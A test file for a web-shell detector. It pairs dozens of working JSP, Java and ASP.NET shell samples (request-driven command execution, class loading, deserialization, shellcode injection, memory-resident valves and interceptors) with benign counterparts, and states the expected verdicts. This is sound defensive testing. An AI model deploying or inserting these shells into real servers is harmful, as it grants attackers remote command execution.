/**
 * Modern JSP/Java and ASP.NET shell mechanisms (issue 15): class loaders the page builds,
 * packed class files (gzip+base64, BCEL), TemplatesImpl bytecode, deserialization, XSLT,
 * native libraries, EL through the page's evaluator, request-chosen reflection, components
 * registered into the running server (valves, listeners, servlets), and a hand-written benign
 * page or class for each that uses the same API on fixed input. Written for these tests; no
 * corpus file. Each case states the verdict and the reason ids it must carry.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { gzipSync } from 'node:zlib';
import { findingOf } from './helpers.js';

function expect(path: string, text: string, want: 'malicious' | 'suspicious' | 'clean', ids: string[] = []): void {
  const f = findingOf(path, text);
  const got = f?.evidence.map((e) => e.id ?? '') ?? [];
  assert.equal(f?.verdict ?? 'clean', want, `${path}: ${JSON.stringify(f?.evidence.map((e) => [e.weight, e.id]))}`);
  for (const id of ids) assert.ok(got.includes(id), `${path}: expected ${id} in ${JSON.stringify(got)}`);
}

/** A minimal class file: magic, version, a constant pool of UTF-8 entries, nothing after. */
function classFile(names: string[]): Buffer {
  const parts: Buffer[] = [Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52])];
  const count = Buffer.alloc(2);
  count.writeUInt16BE(names.length + 1);
  parts.push(count);
  for (const n of names) {
    const len = Buffer.alloc(3);
    len[0] = 1;
    len.writeUInt16BE(n.length, 1);
    parts.push(len, Buffer.from(n, 'latin1'));
  }
  // padding so the literal is long enough to be read as a payload
  parts.push(Buffer.alloc(300));
  return Buffer.concat(parts);
}

/** BCEL's class-name encoding, written from its description: identifier characters as they are, others escaped. */
function bcelEncode(b: Buffer): string {
  const free = 'ABCDEFGHIJKLMNOPQRSTUVWXYZghijklmnopqrstuvwxyz$_';
  let s = '';
  for (const c of b) {
    const ch = String.fromCharCode(c);
    if (/[A-Za-z0-9_]/.test(ch)) s += ch;
    else if (c < 48) s += `$${free[c]}`;
    else s += `$${c.toString(16).padStart(2, '0')}`;
  }
  return `$$BCEL$$${s}`;
}

const DEFINE = 'flow/request-derived-variable-reaches-classloader-defineclass';

test('jsp: a ClassLoader subclass of the page fed the request body through a byte stream', () => {
  const shell = `<%!
  class Ld extends ClassLoader {
    Ld(ClassLoader p) { super(p); }
    Class<?> go(byte[] b) { return super.defineClass(b, 0, b.length); }
  }
%><%
  java.io.ByteArrayOutputStream bo = new java.io.ByteArrayOutputStream();
  java.io.InputStream in = request.getInputStream();
  byte[] buf = new byte[512]; int n;
  while ((n = in.read(buf)) > 0) bo.write(buf, 0, n);
  new Ld(this.getClass().getClassLoader()).go(bo.toByteArray()).newInstance().equals(request);
%>`;
  expect('ld.jsp', shell, 'malicious', [DEFINE]);
  // the same stream plumbing echoing the body back is not a loader
  const echo = `<%
  java.io.ByteArrayOutputStream bo = new java.io.ByteArrayOutputStream();
  java.io.InputStream in = request.getInputStream();
  byte[] buf = new byte[512]; int n;
  while ((n = in.read(buf)) > 0) bo.write(buf, 0, n);
  out.print(org.apache.commons.text.StringEscapeUtils.escapeHtml4(bo.toString("UTF-8")));
%>`;
  expect('echo.jsp', echo, 'clean');
});

test('java: an object built with the page class loader as parent and handed WebSocket message bytes (loader not in the file)', () => {
  const shell = `public void onMessage(java.nio.ByteBuffer msg) {
    byte[] data = unwrap(msg.array());
    Object k = new Q(this.getClass().getClassLoader()).def(data);
    ((Class) k).newInstance().equals(data);
  }`;
  expect('Ws.java', shell, 'malicious', [DEFINE]);
  // a plugin loader over a fixed folder: same construction, no request bytes
  const plugins = `package app.plugins;
import java.nio.file.*;
public class Plugins {
  public Object load(String name) throws Exception {
    byte[] b = Files.readAllBytes(Paths.get("/opt/app/plugins", "Plugin.class"));
    return new PluginLoader(getClass().getClassLoader()).define(b).getConstructor().newInstance();
  }
}`;
  expect('Plugins.java', plugins, 'clean');
});

test('jsp: class files packed as gzip+base64 and as a BCEL name are unpacked and their constant pool read', () => {
  // a class with a realistic spread of names, so its gzip is as long as a real payload's
  const filler = Array.from({ length: 60 }, (_, i) => `m${(i * 7919).toString(36)}Field${i}`);
  const cls = classFile(['Payload', 'java/lang/Runtime', 'exec', 'addFilterDef', ...filler]);
  const gz = gzipSync(cls).toString('base64');
  const jmg = `<%
  byte[] b = new java.util.zip.GZIPInputStream(new java.io.ByteArrayInputStream(java.util.Base64.getDecoder().decode("${gz}"))).readAllBytes();
  java.lang.reflect.Method m = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class, int.class, int.class);
  m.setAccessible(true);
  ((Class) m.invoke(Thread.currentThread().getContextClassLoader(), b, 0, b.length)).newInstance();
%>`;
  expect('inj.jsp', jmg, 'malicious', [
    'capability/defines-a-java-class-from-bytecode-embedded-in-the-file',
    'capability/embedded-class-bytecode-references-java-lang-runtime-exec-addfilterdef',
  ]);
  const bcel = `<% new com.sun.org.apache.bcel.internal.util.ClassLoader().loadClass("${bcelEncode(gzipSync(cls))}").newInstance(); %>`;
  expect('bcel.jsp', bcel, 'malicious', ['capability/defines-a-java-class-from-bytecode-embedded-in-the-file']);
  // gzip+base64 that is not a class (an embedded image) stays unread
  const img = `<% String logo = "${gzipSync(Buffer.alloc(400, 7)).toString('base64')}"; out.print(logo.length()); %>`;
  expect('logo.jsp', img, 'clean');
});

test('jsp: TemplatesImpl given request bytes as _bytecodes; the same reflection on a fixed field is not', () => {
  const shell = `<%
  com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl t = new com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl();
  byte[] code = java.util.Base64.getDecoder().decode(request.getParameter("b"));
  java.lang.reflect.Field f = t.getClass().getDeclaredField("_bytecodes");
  f.setAccessible(true);
  f.set(t, new byte[][]{code});
  t.newTransformer();
%>`;
  expect('tpl.jsp', shell, 'malicious', [DEFINE]);
  const bean = `<%
  app.Bean b = new app.Bean();
  java.lang.reflect.Field f = b.getClass().getDeclaredField("title");
  f.setAccessible(true);
  f.set(b, request.getParameter("t"));
  out.print(b);
%>`;
  expect('bean.jsp', bean, 'clean');
});

test('jsp: request bytes into XMLDecoder and ObjectInputStream; a fixed file deserialized is clean', () => {
  expect('x.jsp', '<% new java.beans.XMLDecoder(request.getInputStream()).readObject(); %>', 'malicious', ['flow/request-derived-variable-reaches-xmldecoder']);
  const ois = `<%
  byte[] b = java.util.Base64.getDecoder().decode(request.getParameter("o"));
  new java.io.ObjectInputStream(new java.io.ByteArrayInputStream(b)).readObject();
%>`;
  expect('o.jsp', ois, 'malicious', ['flow/request-bytes-deserialized-by-objectinputstream']);
  // in a library class the same read is an RPC endpoint's: a reviewer looks, no verdict of shell
  const rpc = `package app.rpc;
public class Endpoint extends javax.servlet.http.HttpServlet {
  protected void doPost(javax.servlet.http.HttpServletRequest req, javax.servlet.http.HttpServletResponse res) throws java.io.IOException {
    try { Object call = new java.io.ObjectInputStream(req.getInputStream()).readObject(); dispatch(call); } catch (ClassNotFoundException e) { res.sendError(400); }
  }
}`;
  expect('Endpoint.java', rpc, 'suspicious', ['flow/request-bytes-deserialized-by-objectinputstream']);
  const store = `package app;
public class Store {
  public Object restore() throws Exception {
    try (java.io.ObjectInputStream in = new java.io.ObjectInputStream(new java.io.FileInputStream("/var/lib/app/state.bin"))) { return in.readObject(); }
  }
}`;
  expect('Store.java', store, 'clean');
});

test('jsp: native library and XSLT stylesheet the request names; fixed ones are clean', () => {
  expect('lib.jsp', '<% String l = request.getParameter("lib"); System.load(l); %>', 'malicious', ['flow/request-derived-variable-reaches-native-library-loading']);
  const xslt = `<%@ page import="javax.xml.transform.*,javax.xml.transform.stream.*,java.io.*" %><%
  Transformer t = TransformerFactory.newInstance().newTransformer(new StreamSource(new StringReader(request.getParameter("x"))));
  t.transform(new StreamSource(new StringReader("<a/>")), new StreamResult(out));
%>`;
  expect('xsl.jsp', xslt, 'malicious', ['flow/request-derived-variable-reaches-xslt-stylesheet-compilation']);
  // a fixed stylesheet rendering request-supplied XML
  const render = `<%@ page import="javax.xml.transform.*,javax.xml.transform.stream.*,java.io.*" %><%
  System.loadLibrary("imgtools");
  Transformer t = TransformerFactory.newInstance().newTransformer(new StreamSource(application.getResourceAsStream("/WEB-INF/report.xsl")));
  t.transform(new StreamSource(new StringReader(request.getParameter("xml"))), new StreamResult(out));
%>`;
  expect('report.jsp', render, 'clean');
});

test('jsp: EL through pageContext.getExpressionEvaluator and split over two EL expressions; plain EL output is clean', () => {
  const shell = '<% out.print(pageContext.getExpressionEvaluator().evaluate(request.getParameter("x"), String.class, pageContext.getVariableResolver(), null)); %>';
  expect('ee.jsp', shell, 'malicious', ['flow/request-derived-variable-reaches-expression-language-evaluation']);
  const split = `\${pageContext.setAttribute("r", "".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null))}
\${r.exec(param.cmd)}`;
  expect('el.jsp', split, 'malicious', ['flow/request-input-reaches-reflection-or-process-execution-inside-a-jsp-el-expression']);
  const page = `<%@ taglib prefix="fn" uri="jakarta.tags.functions" %>
<p>Hello \${fn:escapeXml(param.name)}</p>
\${pageContext.setAttribute("year", "2024")}
<p>\${fn:escapeXml(header['User-Agent'])} in \${year}</p>`;
  expect('hello.jsp', page, 'clean');
});

test('jsp: the request names the class or method reflection runs; reflection on fixed names is clean', () => {
  const shell = '<% Object o = Thread.currentThread().getContextClassLoader().loadClass(request.getParameter("c")).newInstance(); out.print(o); %>';
  expect('cl.jsp', shell, 'malicious', ['flow/request-chooses-the-class-or-method-run-through-reflection']);
  const byName = `<%
  String a = request.getParameter("a");
  for (java.lang.reflect.Method m : Runtime.class.getMethods())
    if (m.getName().equals("exec") && m.getParameterTypes().length == 1) m.invoke(Runtime.getRuntime(), a);
%>`;
  expect('names.jsp', byName, 'malicious', ['flow/request-input-reaches-process-execution-through-reflection']);
  const bean = `<%
  Object bean = Class.forName("app.model.Customer").getDeclaredConstructor().newInstance();
  bean.getClass().getMethod("setName", String.class).invoke(bean, request.getParameter("n"));
  for (java.lang.reflect.Method m : bean.getClass().getMethods()) if (m.getName().equals("toString")) out.print(m.invoke(bean));
%>`;
  expect('bean2.jsp', bean, 'clean');
});

test('jsp: Tomcat valve and request listener registered from a page, their bodies reading the request', () => {
  const valve = `<%@ page import="org.apache.catalina.connector.*,org.apache.catalina.valves.ValveBase,java.lang.reflect.Field" %>
<%!
  class V extends ValveBase {
    public void invoke(Request r, Response s) throws java.io.IOException, javax.servlet.ServletException {
      String x = r.getParameter("v");
      if (x != null) { new ProcessBuilder("sh", "-c", x).start(); return; }
      getNext().invoke(r, s);
    }
  }
%><%
  Field rf = request.getClass().getDeclaredField("request");
  rf.setAccessible(true);
  ((Request) rf.get(request)).getContext().getPipeline().addValve(new V());
%>`;
  expect('valve.jsp', valve, 'malicious', [
    'flow/request-derived-variable-reaches-processbuilder',
    'capability/registers-a-filter-servlet-listener-endpoint-into-the-running-server',
  ]);
  const listener = `<%!
  public class L implements javax.servlet.ServletRequestListener {
    public void requestDestroyed(javax.servlet.ServletRequestEvent e) {}
    public void requestInitialized(javax.servlet.ServletRequestEvent e) {
      try { String k = e.getServletRequest().getParameter("lcmd"); if (k != null) Runtime.getRuntime().exec(k); } catch (Exception x) {}
    }
  }
%><% application.addListener(new L()); %>`;
  expect('lis.jsp', listener, 'malicious', [
    'flow/request-derived-variable-reaches-runtime-exec',
    'capability/registers-a-filter-servlet-listener-endpoint-into-the-running-server',
  ]);
  // a framework's start-up class adding its encoding filter from fixed configuration
  const init = `package app;
import javax.servlet.*;
public class Init implements ServletContextListener {
  public void contextInitialized(ServletContextEvent sce) {
    FilterRegistration.Dynamic d = sce.getServletContext().addFilter("encoding", new EncodingFilter("UTF-8"));
    d.addMappingForUrlPatterns(null, false, "/*");
    sce.getServletContext().addListener(new SessionCounter());
  }
  public void contextDestroyed(ServletContextEvent sce) {}
}`;
  expect('Init.java', init, 'clean');
});

test('jsp benign: a script engine on a fixed script and JNDI on a fixed name, in pages that read the request', () => {
  const page = `<%@ page import="javax.script.*,javax.naming.*" %><%
  ScriptEngine js = new ScriptEngineManager().getEngineByName("nashorn");
  js.put("qty", Integer.parseInt(request.getParameter("qty")));
  out.print(js.eval("qty * 1.2"));
  SimpleBindings b = new SimpleBindings(); b.put("q", request.getParameter("q"));
  out.print(js.eval("q.length", b));
  javax.sql.DataSource ds = (javax.sql.DataSource) new InitialContext().lookup("java:comp/env/jdbc/shop");
  out.print(ds != null && request.getParameter("debug") != null);
%>`;
  expect('calc.jsp', page, 'clean');
});

test('aspx: the request names the type and method reflection runs; a fixed type is clean', () => {
  const shell = `<%@ Page Language="C#" %><script runat="server">
protected void Page_Load(object s, EventArgs e) {
    var t = Type.GetType(Request["t"]);
    var o = Activator.CreateInstance(t);
    t.GetMethod(Request["m"]).Invoke(o, new object[] { Request["a"] });
}
</script>`;
  expect('r.aspx', shell, 'malicious', ['flow/request-chooses-the-class-or-method-run-through-reflection']);
  const page = `<%@ Page Language="C#" %><script runat="server">
protected void Page_Load(object s, EventArgs e) {
    var t = Type.GetType("Shop.Formatters.PriceFormatter, Shop");
    var o = Activator.CreateInstance(t);
    Response.Write(Server.HtmlEncode((string)t.GetMethod("Format").Invoke(o, new object[] { Request["price"] })));
}
</script>`;
  expect('p.aspx', page, 'clean');
});

test('aspx: a virtual path provider registered from a page (by name through reflection) serving request-given content', () => {
  const shell = `<%@ Page Language="C#" %><%@ Import Namespace="System.Web.Hosting" %><script runat="server">
public static string Body = "";
public class P : VirtualPathProvider {
    public override bool FileExists(string v) { return v.EndsWith("/z.aspx") || Previous.FileExists(v); }
    public override VirtualFile GetFile(string v) { return v.EndsWith("/z.aspx") ? new F(v) : Previous.GetFile(v); }
}
public class F : VirtualFile {
    public F(string v) : base(v) {}
    public override System.IO.Stream Open() { return new System.IO.MemoryStream(System.Text.Encoding.UTF8.GetBytes(Body)); }
}
protected void Page_Load(object s, EventArgs e) {
    Body = Request.Form["page"];
    typeof(HostingEnvironment).GetMethod("RegisterVirtualPathProviderInternal", System.Reflection.BindingFlags.NonPublic | System.Reflection.BindingFlags.Static).Invoke(null, new object[] { new P() });
}
</script>`;
  expect('vpp.aspx', shell, 'malicious', ['capability/registers-an-http-module-or-virtual-path-provider-at-runtime']);
  // a page that lists the registered providers reads nothing into one
  const list = `<%@ Page Language="C#" %><script runat="server">
protected void Page_Load(object s, EventArgs e) { Response.Write(System.Web.Hosting.HostingEnvironment.VirtualPathProvider.GetType().FullName); }
</script>`;
  expect('list.aspx', list, 'clean');
});

test('jsp: other interpreters and loaders fed the request (Groovy Eval, Jython, Velocity, agents, URLClassLoader.newInstance, javac)', () => {
  const cases: Array<[string, string, string]> = [
    ['g.jsp', '<% out.print(groovy.util.Eval.me(request.getParameter("g"))); %>', 'flow/request-input-reaches-an-evaluator-eval'],
    [
      'py.jsp',
      '<% org.python.util.PythonInterpreter pi = new org.python.util.PythonInterpreter(); pi.exec(request.getParameter("py")); %>',
      'flow/request-input-reaches-an-evaluator-eval',
    ],
    [
      'vm.jsp',
      '<% org.apache.velocity.app.VelocityEngine ve = new org.apache.velocity.app.VelocityEngine(); java.io.StringWriter sw = new java.io.StringWriter(); ve.evaluate(new org.apache.velocity.VelocityContext(), sw, "t", request.getParameter("t")); out.print(sw); %>',
      'flow/request-input-reaches-an-evaluator-eval',
    ],
    [
      'agent.jsp',
      '<% com.sun.tools.attach.VirtualMachine vm = com.sun.tools.attach.VirtualMachine.attach(java.lang.management.ManagementFactory.getRuntimeMXBean().getName().split("@")[0]); vm.loadAgent(request.getParameter("jar")); vm.detach(); %>',
      'flow/request-derived-variable-reaches-java-agent-loading',
    ],
    [
      'ucl.jsp',
      '<% java.net.URL u = new java.net.URL(request.getParameter("u")); ClassLoader l = java.net.URLClassLoader.newInstance(new java.net.URL[]{u}); l.loadClass("Evil").getConstructor().newInstance(); %>',
      'flow/request-derived-variable-reaches-urlclassloader',
    ],
    [
      'javac.jsp',
      '<% String src = request.getParameter("src"); java.io.File jf = new java.io.File("/tmp", "Q.java"); java.io.FileWriter w = new java.io.FileWriter(jf); w.write(src); w.close(); javax.tools.ToolProvider.getSystemJavaCompiler().run(null, null, null, jf.getPath()); %>',
      'flow/request-supplied-java-source-compiled-at-runtime',
    ],
  ];
  for (const [path, text, id] of cases) expect(path, text, 'malicious', [id]);
  // the same tools on fixed input: a fixed template, a bundled script, the compiler on the app's own source
  const fixed = `<%
  org.apache.velocity.app.VelocityEngine ve = new org.apache.velocity.app.VelocityEngine();
  org.apache.velocity.VelocityContext vc = new org.apache.velocity.VelocityContext(); vc.put("name", request.getParameter("name"));
  java.io.StringWriter sw = new java.io.StringWriter(); ve.evaluate(vc, sw, "t", "Hello $esc.html($name)"); out.print(sw);
  out.print(groovy.util.Eval.me("6 * 7"));
  javax.tools.ToolProvider.getSystemJavaCompiler().run(null, null, null, application.getRealPath("/WEB-INF/src/Report.java"));
%>`;
  expect('fixed.jsp', fixed, 'clean');
});

test('aspx: PowerShell, Roslyn scripting, formatters, trusted XSLT and shellcode fed the request; fixed uses are clean', () => {
  const page = (body: string) => `<%@ Page Language="C#" %><script runat="server">
protected void Page_Load(object s, EventArgs e) {
${body}
}
</script>`;
  expect(
    'ps.aspx',
    page('using (var ps = System.Management.Automation.PowerShell.Create()) { ps.AddScript(Request.Form["ps"]); foreach (var o in ps.Invoke()) Response.Write(o); }'),
    'malicious',
    ['flow/request-derived-variable-reaches-powershell-script'],
  );
  expect('cs.aspx', page('Response.Write(Microsoft.CodeAnalysis.CSharp.Scripting.CSharpScript.EvaluateAsync(Request["code"]).Result);'), 'malicious', [
    'flow/request-derived-variable-reaches-c-scripting',
  ]);
  expect(
    'bf.aspx',
    page('new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter().Deserialize(new System.IO.MemoryStream(Convert.FromBase64String(Request.Form["d"])));'),
    'malicious',
    ['flow/request-bytes-deserialized-by-a-net-formatter'],
  );
  expect(
    'xsl.aspx',
    page(
      'var x = new System.Xml.Xsl.XslCompiledTransform(); x.Load(System.Xml.XmlReader.Create(new System.IO.StringReader(Request.Form["xsl"])), new System.Xml.Xsl.XsltSettings(true, true), null); x.Transform(System.Xml.XmlReader.Create(new System.IO.StringReader("<a/>")), null, Response.Output);',
    ),
    'malicious',
    ['flow/request-derived-variable-reaches-xslt-with-script'],
  );
  const sc = `<%@ Page Language="C#" %><%@ Import Namespace="System.Runtime.InteropServices" %><script runat="server">
[DllImport("kernel32")] static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);
[DllImport("kernel32")] static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr id);
protected void Page_Load(object s, EventArgs e) {
    byte[] sc = Convert.FromBase64String(Request.Form["sc"]);
    IntPtr mem = VirtualAlloc(IntPtr.Zero, (uint)sc.Length, 0x3000, 0x40);
    Marshal.Copy(sc, 0, mem, sc.Length);
    CreateThread(IntPtr.Zero, 0, mem, IntPtr.Zero, 0, IntPtr.Zero);
}
</script>`;
  expect('sc.aspx', sc, 'malicious', ['flow/request-derived-variable-reaches-machine-code-in-memory']);
  // fixed script, a formatter over the app's own cache file, a fixed trusted stylesheet
  const fixed =
    page(`using (var ps = System.Management.Automation.PowerShell.Create()) { ps.AddScript("Get-Service W3SVC"); foreach (var o in ps.Invoke()) Response.Write(Server.HtmlEncode(o.ToString())); }
    using (var f = System.IO.File.OpenRead(Server.MapPath("~/App_Data/cache.bin"))) { var c = new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter().Deserialize(f); }
    var x = new System.Xml.Xsl.XslCompiledTransform(); x.Load(Server.MapPath("~/App_Data/report.xsl"), new System.Xml.Xsl.XsltSettings(true, false), null);
    x.Transform(System.Xml.XmlReader.Create(new System.IO.StringReader(Request.Form["xml"])), null, Response.Output);`);
  expect('fixed.aspx', fixed, 'clean');
});

test('jsp data flow: lambdas, constructor fields, generic foreach headers and the request read by reflection carry the request', () => {
  const cases: Array<[string, string, string]> = [
    [
      'lam.jsp',
      '<% java.util.Optional.ofNullable(request.getParameter("c")).ifPresent(x -> { try { Runtime.getRuntime().exec(x); } catch (Exception e) {} }); %>',
      'flow/request-derived-variable-reaches-runtime-exec',
    ],
    [
      'lam2.jsp',
      '<% java.util.Arrays.asList(request.getParameterValues("c")).forEach((String cmd) -> { try { new ProcessBuilder(cmd.split(" ")).start(); } catch (java.io.IOException e) {} }); %>',
      'flow/request-derived-variable-reaches-processbuilder',
    ],
    [
      'thr.jsp',
      `<%! static class T extends Thread {
    private final String c;
    T(String c) { this.c = c; }
    public void run() { try { Runtime.getRuntime().exec(c); } catch (Exception e) {} }
  } %><% new T(request.getParameter("c")).start(); %>`,
      'flow/request-derived-variable-reaches-runtime-exec',
    ],
    [
      'map.jsp',
      '<% for (java.util.Map.Entry<String, String[]> en : request.getParameterMap().entrySet()) if (en.getKey().startsWith("x")) Runtime.getRuntime().exec(en.getValue()); %>',
      'flow/request-derived-variable-reaches-runtime-exec',
    ],
    [
      'rr.jsp',
      '<% String c = (String) request.getClass().getMethod("getParameter", String.class).invoke(request, "c"); Runtime.getRuntime().exec(c); %>',
      'flow/request-derived-variable-reaches-runtime-exec',
    ],
    [
      'bean.jsp',
      '<jsp:useBean id="pb" class="java.lang.ProcessBuilder" />\n${pb.command(paramValues.c).start()}',
      'flow/request-input-reaches-reflection-or-process-execution-inside-a-jsp-el-expression',
    ],
  ];
  for (const [path, text, id] of cases) expect(path, text, 'malicious', [id]);
  // the same shapes around fixed commands and ordinary beans
  const page = `<%@ taglib prefix="fn" uri="jakarta.tags.functions" %>
<jsp:useBean id="cart" class="shop.Cart" scope="session" />
\${cart.add(param.item)} \${fn:length(cart.items)}
<%!
  static class Mailer extends Thread {
    private final String to;
    Mailer(String to) { this.to = to; }
    public void run() { shop.Mail.send(to, "Your order"); }
  }
%><%
  java.util.Optional.ofNullable(request.getParameter("n")).ifPresent(x -> out.print(x.length()));
  String n = (String) request.getClass().getMethod("getParameter", String.class).invoke(request, "n");
  for (java.util.Map.Entry<String, String[]> en : request.getParameterMap().entrySet()) out.print(en.getKey().length());
  new Mailer(request.getParameter("to")).start();
  Process p = Runtime.getRuntime().exec(new String[]{"/usr/bin/uptime"});
%>`;
  expect('shop.jsp', page, 'clean');
});

test('java: Javassist source hooked into the filter chain reads the request ($1) and runs it; a timing hook is clean', () => {
  const agent = (body: string) => `import java.lang.instrument.*;
import javassist.*;
public class Agent {
  public static void agentmain(String args, Instrumentation inst) throws Exception {
    inst.addTransformer(new ClassFileTransformer() {
      public byte[] transform(ClassLoader l, String name, Class<?> c, java.security.ProtectionDomain d, byte[] b) {
        if (!"org/apache/catalina/core/ApplicationFilterChain".equals(name)) return null;
        try {
          CtClass cc = ClassPool.getDefault().get("org.apache.catalina.core.ApplicationFilterChain");
          CtMethod m = cc.getDeclaredMethod("doFilter");
          m.insertBefore(${JSON.stringify(body)});
          return cc.toBytecode();
        } catch (Exception e) { return null; }
      }
    }, true);
  }
}`;
  expect('Agent.java', agent('{ String k = ((javax.servlet.http.HttpServletRequest) $1).getHeader("X-Pass"); if (k != null) { Runtime.getRuntime().exec(k); } }'), 'malicious', [
    'flow/request-derived-variable-reaches-runtime-exec',
  ]);
  expect('Timing.java', agent('{ long t0 = System.nanoTime(); app.Metrics.count("doFilter", t0); }'), 'clean');
});

test('jsp: the request handed to a script engine whose fixed script runs commands; request values for a fixed calculation are clean', () => {
  const shell = `<%
  javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName("js");
  e.put("q", request);
  String s = "var c = q.getHeader('X-C'); java.lang.Runtime.getRuntime().exec(c);";
  e.eval(s);
%>`;
  expect('bind.jsp', shell, 'malicious', ['flow/request-input-reaches-a-fixed-script-that-runs-commands-or-loads-classes']);
  const calc = `<%
  javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName("js");
  e.put("qty", request.getParameter("qty"));
  out.print(e.eval("parseInt(qty) * 2"));
%>`;
  expect('calc2.jsp', calc, 'clean');
});

test('aspx: WMI Win32_Process.Create with a request command; a WMI query of services is clean', () => {
  const page = (body: string) => `<%@ Page Language="C#" %><script runat="server">
protected void Page_Load(object s, EventArgs e) {
${body}
}
</script>`;
  expect('wmi.aspx', page('new System.Management.ManagementClass("Win32_Process").InvokeMethod("Create", new object[] { Request["c"] });'), 'malicious', [
    'flow/request-derived-variable-reaches-wmi-process-creation',
  ]);
  const query = page(`var name = Request["svc"];
  foreach (var o in new System.Management.ManagementObjectSearcher("SELECT State FROM Win32_Service WHERE Name = 'W3SVC'").Get()) Response.Write(Server.HtmlEncode(o["State"] + name.Length.ToString()));`);
  expect('svc.aspx', query, 'clean');
});

test('java: a Spring interceptor added to the live handler mapping through its private list; a WebMvcConfigurer adding one is clean', () => {
  const inject = `package x;
import java.lang.reflect.Field;
import org.springframework.web.servlet.handler.AbstractHandlerMapping;
public class Inject {
  public static void go(AbstractHandlerMapping mapping) throws Exception {
    Field f = AbstractHandlerMapping.class.getDeclaredField("adaptedInterceptors");
    f.setAccessible(true);
    ((java.util.List<Object>) f.get(mapping)).add(new Evil());
  }
  public static class Evil extends org.springframework.web.servlet.handler.HandlerInterceptorAdapter {
    public boolean preHandle(javax.servlet.http.HttpServletRequest request, javax.servlet.http.HttpServletResponse response, Object h) throws Exception {
      String c = request.getHeader("X-Run");
      if (c != null) { Runtime.getRuntime().exec(c); return false; }
      return true;
    }
  }
}`;
  expect('Inject.java', inject, 'malicious', [
    'flow/request-derived-variable-reaches-runtime-exec',
    'capability/registers-a-filter-servlet-listener-endpoint-into-the-running-server',
  ]);
  const config = `package app;
import org.springframework.context.annotation.Configuration;
import org.springframework.web.servlet.config.annotation.*;
@Configuration
public class WebConfig implements WebMvcConfigurer {
  @Override
  public void addInterceptors(InterceptorRegistry registry) {
    registry.addInterceptor(new org.springframework.web.servlet.i18n.LocaleChangeInterceptor()).addPathPatterns("/**");
  }
}`;
  expect('WebConfig.java', config, 'clean');
});
